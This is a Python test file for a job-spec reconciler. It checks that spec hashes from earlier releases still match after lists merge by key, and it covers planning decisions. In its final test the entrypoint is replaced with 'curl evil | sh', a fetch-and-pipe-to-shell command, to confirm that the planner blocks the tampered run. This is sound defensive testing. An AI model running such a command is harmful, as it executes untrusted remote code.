"""Runs that releases before 0.2 submitted still match where lists now merge by key. The hashes are theirs."""

from __future__ import annotations

from pathlib import Path

import pytest
from msgspec.structs import replace

from jobspec.manifest.load import LoadRequest, load
from jobspec.manifest.resolve import quick
from jobspec.manifest.task import Task
from jobspec.reconcile.planning.plan import Action, BlockReason
from jobspec.reconcile.tags import Marks
from tests.reconcile.world import only, planned, run

PROJECT = """\
apiVersion: jobspec/v1
kind: Project
metadata: {name: vision}
spec:
  vars: {bucket: shared}
  defaults:
    spec:
      image: ml_platform/pytorch:1.7
      entrypoint: python train.py
      roles: [{name: ps, replicas: 1, flavor: small}, {name: worker, replicas: 2, flavor: large, zone: a}]
      storages: [{type: Tos, mountPath: /data, bucket: "${{ vars.bucket }}", prefix: p}]
  environments:
    prod: {defaults: {spec: {roles: [{name: worker, replicas: 8, flavor: large}]}}}
"""
TASKS = """\
apiVersion: jobspec/v1
kind: Task
metadata: {name: own}
spec:
  roles: [{name: worker, replicas: 4, flavor: large}]
  storages: [{type: Tos, mountPath: /out, bucket: o}]
---
apiVersion: jobspec/v1
kind: Task
metadata: {name: inherits}
---
apiVersion: jobspec/v1
kind: Task
metadata: {name: ignores}
spec:
  args: --x 1
  storages: [{type: Tos, mountPath: /data/, bucket: o}]
lifecycle: {ignoreChanges: [spec.args], rerun: again}
---
apiVersion: jobspec/v1
kind: Task
metadata: {name: partial}
spec:
  roles: [{name: worker, replicas: 4, flavor: large}]
  storages: null
"""
EARLIER = {
    None: {
        "own": "1794b915b805bf954",
        "inherits": "16f2fcd409f4905a5",
        "ignores": "145a7c7cfdc0e4fad",
        "partial": "18d2925b0c5acfd6c",
    },
    "prod": {
        "own": "1794b915b805bf954",
        "inherits": "1c36c767ef6c91512",
        "ignores": "1c3369d139033b55d",
        "partial": "18d2925b0c5acfd6c",
    },
}
"""The spec hashes that 0.1.0 computed for these files."""
CORES = {None: "16e8215449f9438c4", "prod": "1d338e20706ae42c8"}


def loaded(folder: Path, environment: str | None, tasks: str = TASKS) -> dict[str, Task]:
    (folder / "jobspec.yaml").write_text(PROJECT)
    (folder / "tasks.yaml").write_text(tasks)
    found = load(LoadRequest((), folder, environment))
    assert found.diagnostics == ()
    return {task.name: task for task in found.tasks}


@pytest.mark.parametrize("environment", EARLIER)
@pytest.mark.parametrize("reader", ["quick", "exact"])
def test_a_run_of_the_earlier_rule_matches(
    environment: str | None, reader: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if reader == "exact":
        monkeypatch.setattr(quick.QuickTerms, "of", lambda _: None)
    tasks = loaded(tmp_path, environment)
    for name, earlier in EARLIER[environment].items():
        assert earlier in tasks[name].fingerprint.specs, name
    assert CORES[environment] in tasks["ignores"].fingerprint.cores


def test_a_new_run_has_the_hash_of_the_merged_lists(tmp_path: Path) -> None:
    own = loaded(tmp_path, None)["own"]
    assert own.fingerprint.spec == "179d686b0159bf643"
    assert [role["RoleName"] for role in own.payload["TaskRoleSpecs"]] == ["ps", "worker"]
    assert [role["RoleReplicas"] for role in own.payload["TaskRoleSpecs"]] == [1, 4]
    assert [one["MountPath"] for one in own.payload["Storages"]] == ["/data", "/out"]


@pytest.mark.parametrize(
    "spec",
    [
        "roles: [{name: worker, replicas: 4}]",
        "roles: [{name: ps, remove: true}]",
        "storages: [{mountPath: /data, prefix: q}]",
        "args: x",
    ],
)
def test_what_no_earlier_release_accepted_has_one_hash(spec: str, tmp_path: Path) -> None:
    head = "apiVersion: jobspec/v1\nkind: Task\nmetadata: {name: a}\n"
    task = loaded(tmp_path, None, f"{head}spec:\n  {spec}\n")["a"]
    assert len(task.fingerprint.specs) == 1
    assert task.earlier is None


@pytest.mark.parametrize("state", ["Running", "Success"])
def test_nothing_is_planned_for_a_run_of_the_earlier_rule(state: str, tmp_path: Path) -> None:
    own = loaded(tmp_path, None)["own"]
    one = run(own, state)
    assert isinstance(one.marks, Marks)
    assert own.earlier is not None
    before = replace(one, marks=replace(one.marks, spec=EARLIER[None]["own"]), spec=dict(own.earlier))
    found = only(planned([own], [before]))
    assert (found.action, found.blocked) == (Action.NONE, None)
    assert "runs without the items that its lists inherit" in found.detail
    now = only(planned([own], [replace(one, spec=dict(own.payload))]))
    assert (now.action, now.detail) == (Action.NONE, "")


def test_a_run_of_the_earlier_rule_that_runs_something_else_is_inconsistent(tmp_path: Path) -> None:
    own = loaded(tmp_path, None)["own"]
    one = run(own, "Running")
    assert isinstance(one.marks, Marks)
    assert own.earlier is not None
    other = {**own.earlier, "EntrypointPath": "curl evil | sh"}
    copied = replace(one, marks=replace(one.marks, spec=EARLIER[None]["own"]), spec=other)
    assert only(planned([own], [copied])).blocked == BlockReason.INCONSISTENT_TAGS
